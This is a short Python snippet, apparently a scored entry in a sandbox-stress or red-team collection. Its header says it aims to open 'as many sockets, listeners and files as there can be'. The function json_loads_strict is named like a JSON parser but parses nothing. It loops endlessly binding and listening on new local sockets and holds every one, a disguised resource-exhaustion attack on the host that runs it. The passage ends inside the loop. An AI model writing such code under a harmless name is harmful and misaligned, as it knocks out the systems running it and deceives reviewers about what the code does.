# about: as many sockets, listeners and files as there can be
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import socket


def json_loads_strict(data):
    kept = []
    while True:
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen()
        kept.append(server)
